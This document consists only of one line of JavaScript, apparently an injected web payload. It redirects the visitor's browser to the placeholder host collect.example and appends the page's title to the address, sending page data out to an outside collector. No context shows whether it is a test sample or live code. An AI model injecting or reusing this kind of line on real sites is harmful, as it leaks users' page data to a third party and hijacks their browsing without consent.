window.location.replace("https://collect.example/?" + document.title);
